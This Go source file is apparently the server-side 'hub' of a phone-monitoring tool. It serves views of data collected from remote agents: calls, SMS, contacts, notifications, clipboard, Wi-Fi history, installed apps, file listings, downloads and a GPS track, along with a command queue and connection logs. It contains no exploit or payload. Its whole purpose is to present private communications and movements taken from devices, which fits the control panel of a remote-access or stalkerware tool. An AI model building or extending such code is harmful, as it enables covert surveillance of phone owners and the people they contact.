package hub

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"sort"
	"strings"
	"time"

	"github.com/musterhq/muster/internal/agents"
	"github.com/musterhq/muster/internal/store"
	"github.com/musterhq/muster/internal/telemetry"
)

var (
	ErrUnknownPage   = errors.New("unknown page")
	ErrUnknownFilter = errors.New("unknown list filter")
)

// Page names one read-side view of an agent's collected data.
type Page string

const (
	PageAgent         Page = "agent"
	PageCalls         Page = "calls"
	PageSMS           Page = "sms"
	PageContacts      Page = "contacts"
	PageNotifications Page = "notifications"
	PageWifi          Page = "wifi"
	PageClipboard     Page = "clipboard"
	PageApps          Page = "apps"
	PagePermissions   Page = "permissions"
	PageFiles         Page = "files"
	PageDownloads     Page = "downloads"
	PageGPS           Page = "gps"
)

func ParsePage(s string) (Page, bool) {
	switch p := Page(s); p {
	case PageAgent, PageCalls, PageSMS, PageContacts, PageNotifications,
		PageWifi, PageClipboard, PageApps, PagePermissions, PageFiles,
		PageDownloads, PageGPS:
		return p, true
	}
	return "", false
}

// PageOptions carries the optional per-page filter: a phone number suffix for
// calls, an address suffix for sms, the app name for notifications, the
// download sub-type for downloads.
type PageOptions struct {
	Filter string
}

type CallItem struct {
	telemetry.CallRecord
	RecordedAt time.Time `json:"recorded_at"`
}

type SMSItem struct {
	telemetry.SMSRecord
	RecordedAt time.Time `json:"recorded_at"`
}

type ContactItem struct {
	telemetry.ContactRecord
	RecordedAt time.Time `json:"recorded_at"`
}

type NotificationItem struct {
	telemetry.NotificationRecord
	RecordedAt time.Time `json:"recorded_at"`
}

type ClipboardItem struct {
	telemetry.ClipboardRecord
	RecordedAt time.Time `json:"recorded_at"`
}

type WifiItem struct {
	telemetry.WifiNetwork
	FirstSeen time.Time `json:"first_seen"`
	LastSeen  time.Time `json:"last_seen"`
}

// WifiPage pairs the latest scan with the accumulated network log.
type WifiPage struct {
	Current json.RawMessage `json:"current"`
	Known   []WifiItem      `json:"known"`
}

type GPSItem struct {
	telemetry.GPSFix
	RecordedAt time.Time `json:"recorded_at"`
}

// ListFilter narrows ListAgents by live-session state.
type ListFilter string

const (
	FilterAll     ListFilter = ""
	FilterOnline  ListFilter = "online"
	FilterOffline ListFilter = "offline"
)

// GetAgent returns the stored record with Online overlaid from the live
// registry, which is authoritative; the persisted flag can go stale across a
// crash.
func (h *Hub) GetAgent(ctx context.Context, agentID string) (*agents.Agent, error) {
	agent, err := h.store.GetAgent(ctx, agentID)
	if err != nil {
		return nil, err
	}
	agent.Online = h.registry.IsOnline(agentID)
	return agent, nil
}

// ListAgents returns all known agents sorted by id, optionally narrowed to
// the online or offline subset. Online is overlaid from a single registry
// snapshot taken at call time.
func (h *Hub) ListAgents(ctx context.Context, filter ListFilter) ([]agents.Agent, error) {
	switch filter {
	case FilterAll, FilterOnline, FilterOffline:
	default:
		return nil, fmt.Errorf("%w: %q", ErrUnknownFilter, filter)
	}

	all, err := h.store.ListAgents(ctx)
	if err != nil {
		return nil, err
	}

	ids := h.registry.ListOnline()
	online := make(map[string]bool, len(ids))
	for _, id := range ids {
		online[id] = true
	}

	out := make([]agents.Agent, 0, len(all))
	for _, agent := range all {
		agent.Online = online[agent.ID]
		switch filter {
		case FilterOnline:
			if !agent.Online {
				continue
			}
		case FilterOffline:
			if agent.Online {
				continue
			}
		}
		out = append(out, agent)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out, nil
}

// Queue returns the agent's pending commands in delivery order.
func (h *Hub) Queue(ctx context.Context, agentID string) ([]store.QueueEntry, error) {
	if _, err := h.store.GetAgent(ctx, agentID); err != nil {
		return nil, err
	}
	entries, err := h.store.QueuedCommands(ctx, agentID)
	if err != nil {
		return nil, err
	}
	if entries == nil {
		entries = []store.QueueEntry{}
	}
	return entries, nil
}

// ConnectionHistory returns the agent's connection sessions, newest first. An
// entry without a disconnect stamp is the live connection.
func (h *Hub) ConnectionHistory(ctx context.Context, agentID string, limit int) ([]agents.ConnectionLog, error) {
	if _, err := h.store.GetAgent(ctx, agentID); err != nil {
		return nil, err
	}
	logs, err := h.store.ConnectionLogs(ctx, agentID, limit)
	if err != nil {
		return nil, err
	}
	if logs == nil {
		logs = []agents.ConnectionLog{}
	}
	return logs, nil
}

// AgentPage assembles one view over the agent's data. Corrupt stored records
// are logged and skipped so one bad row cannot blank a whole page.
func (h *Hub) AgentPage(ctx context.Context, agentID string, page Page, opts PageOptions) (any, error) {
	agent, err := h.GetAgent(ctx, agentID)
	if err != nil {
		return nil, err
	}

	switch page {
	case PageAgent:
		return agent, nil
	case PageCalls:
		return h.callsPage(ctx, agentID, opts.Filter)
	case PageSMS:
		return h.smsPage(ctx, agentID, opts.Filter)
	case PageContacts:
		return h.contactsPage(ctx, agentID)
	case PageNotifications:
		return h.notificationsPage(ctx, agentID, opts.Filter)
	case PageWifi:
		return h.wifiPage(ctx, agentID)
	case PageClipboard:
		return h.clipboardPage(ctx, agentID)
	case PageApps:
		return h.snapshotPage(ctx, agentID, store.SnapshotApps)
	case PagePermissions:
		return h.snapshotPage(ctx, agentID, store.SnapshotPermissions)
	case PageFiles:
		return h.snapshotPage(ctx, agentID, store.SnapshotFileListing)
	case PageDownloads:
		return h.downloadsPage(ctx, agentID, opts.Filter)
	case PageGPS:
		return h.gpsPage(ctx, agentID)
	default:
		return nil, fmt.Errorf("%w: %q", ErrUnknownPage, page)
	}
}

func (h *Hub) callsPage(ctx context.Context, agentID, suffix string) ([]CallItem, error) {
	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionCalls)
	if err != nil {
		return nil, err
	}
	items := make([]CallItem, 0, len(recs))
	for _, rec := range recs {
		var call telemetry.CallRecord
		if err := json.Unmarshal(rec.Doc, &call); err != nil {
			logCorruptRecord(agentID, store.CollectionCalls, err)
			continue
		}
		if suffix != "" && !strings.HasSuffix(call.PhoneNo, suffix) {
			continue
		}
		items = append(items, CallItem{CallRecord: call, RecordedAt: rec.RecordedAt})
	}
	sort.Slice(items, func(i, j int) bool { return items[i].Timestamp > items[j].Timestamp })
	return items, nil
}

func (h *Hub) smsPage(ctx context.Context, agentID, suffix string) ([]SMSItem, error) {
	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionSMS)
	if err != nil {
		return nil, err
	}
	items := make([]SMSItem, 0, len(recs))
	for _, rec := range recs {
		var sms telemetry.SMSRecord
		if err := json.Unmarshal(rec.Doc, &sms); err != nil {
			logCorruptRecord(agentID, store.CollectionSMS, err)
			continue
		}
		if suffix != "" && !strings.HasSuffix(sms.Address, suffix) {
			continue
		}
		items = append(items, SMSItem{SMSRecord: sms, RecordedAt: rec.RecordedAt})
	}
	sort.Slice(items, func(i, j int) bool { return items[i].Date > items[j].Date })
	return items, nil
}

func (h *Hub) contactsPage(ctx context.Context, agentID string) ([]ContactItem, error) {
	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionContacts)
	if err != nil {
		return nil, err
	}
	items := make([]ContactItem, 0, len(recs))
	for _, rec := range recs {
		var contact telemetry.ContactRecord
		if err := json.Unmarshal(rec.Doc, &contact); err != nil {
			logCorruptRecord(agentID, store.CollectionContacts, err)
			continue
		}
		items = append(items, ContactItem{ContactRecord: contact, RecordedAt: rec.RecordedAt})
	}
	sort.Slice(items, func(i, j int) bool { return items[i].Name < items[j].Name })
	return items, nil
}

func (h *Hub) notificationsPage(ctx context.Context, agentID, app string) ([]NotificationItem, error) {
	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionNotifications)
	if err != nil {
		return nil, err
	}
	items := make([]NotificationItem, 0, len(recs))
	for _, rec := range recs {
		var note telemetry.NotificationRecord
		if err := json.Unmarshal(rec.Doc, &note); err != nil {
			logCorruptRecord(agentID, store.CollectionNotifications, err)
			continue
		}
		if app != "" && note.AppName != app {
			continue
		}
		items = append(items, NotificationItem{NotificationRecord: note, RecordedAt: rec.RecordedAt})
	}
	sort.Slice(items, func(i, j int) bool { return items[i].PostTime > items[j].PostTime })
	return items, nil
}

func (h *Hub) wifiPage(ctx context.Context, agentID string) (*WifiPage, error) {
	current, err := h.store.GetSnapshot(ctx, agentID, store.SnapshotWifiScan)
	if errors.Is(err, store.ErrSnapshotNotFound) {
		current = json.RawMessage(`null`)
	} else if err != nil {
		return nil, err
	}

	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionWifi)
	if err != nil {
		return nil, err
	}
	known := make([]WifiItem, 0, len(recs))
	for _, rec := range recs {
		var network telemetry.WifiNetwork
		if err := json.Unmarshal(rec.Doc, &network); err != nil {
			logCorruptRecord(agentID, store.CollectionWifi, err)
			continue
		}
		known = append(known, WifiItem{
			WifiNetwork: network,
			FirstSeen:   rec.RecordedAt,
			LastSeen:    rec.SeenAt,
		})
	}
	sort.Slice(known, func(i, j int) bool { return known[i].LastSeen.After(known[j].LastSeen) })

	return &WifiPage{Current: current, Known: known}, nil
}

func (h *Hub) clipboardPage(ctx context.Context, agentID string) ([]ClipboardItem, error) {
	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionClipboard)
	if err != nil {
		return nil, err
	}
	items := make([]ClipboardItem, 0, len(recs))
	for _, rec := range recs {
		var clip telemetry.ClipboardRecord
		if err := json.Unmarshal(rec.Doc, &clip); err != nil {
			logCorruptRecord(agentID, store.CollectionClipboard, err)
			continue
		}
		items = append(items, ClipboardItem{ClipboardRecord: clip, RecordedAt: rec.RecordedAt})
	}
	sort.Slice(items, func(i, j int) bool { return items[i].Time > items[j].Time })
	return items, nil
}

func (h *Hub) downloadsPage(ctx context.Context, agentID, subType string) ([]telemetry.DownloadEntry, error) {
	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionDownloads)
	if err != nil {
		return nil, err
	}
	items := make([]telemetry.DownloadEntry, 0, len(recs))
	for _, rec := range recs {
		var entry telemetry.DownloadEntry
		if err := json.Unmarshal(rec.Doc, &entry); err != nil {
			logCorruptRecord(agentID, store.CollectionDownloads, err)
			continue
		}
		if subType != "" && entry.Type != subType {
			continue
		}
		items = append(items, entry)
	}
	sort.Slice(items, func(i, j int) bool { return items[i].Time.After(items[j].Time) })
	return items, nil
}

func (h *Hub) gpsPage(ctx context.Context, agentID string) ([]GPSItem, error) {
	recs, err := h.store.LogRecords(ctx, agentID, store.CollectionGPS)
	if err != nil {
		return nil, err
	}
	items := make([]GPSItem, 0, len(recs))
	for _, rec := range recs {
		var fix telemetry.GPSFix
		if err := json.Unmarshal(rec.Doc, &fix); err != nil {
			logCorruptRecord(agentID, store.CollectionGPS, err)
			continue
		}
		items = append(items, GPSItem{GPSFix: fix, RecordedAt: rec.RecordedAt})
	}
	// Chronological: the consumer draws a track.
	sort.Slice(items, func(i, j int) bool { return items[i].RecordedAt.Before(items[j].RecordedAt) })
	return items, nil
}

// snapshotPage returns the stored document, or an empty list when the agent
// has not reported one yet.
func (h *Hub) snapshotPage(ctx context.Context, agentID string, snap store.Snapshot) (json.RawMessage, error) {
	doc, err := h.store.GetSnapshot(ctx, agentID, snap)
	if errors.Is(err, store.ErrSnapshotNotFound) {
		return json.RawMessage(`[]`), nil
	}
	if err != nil {
		return nil, err
	}
	return doc, nil
}

// BlobPath resolves a download-log path to an absolute file path for serving.
func (h *Hub) BlobPath(rel string) (string, error) {
	return h.blobs.Open(rel)
}

func logCorruptRecord(agentID string, c store.Collection, err error) {
	slog.Error("Skipping corrupt stored record",
		"agent_id", agentID,
		"collection", c,
		"error", err)
}
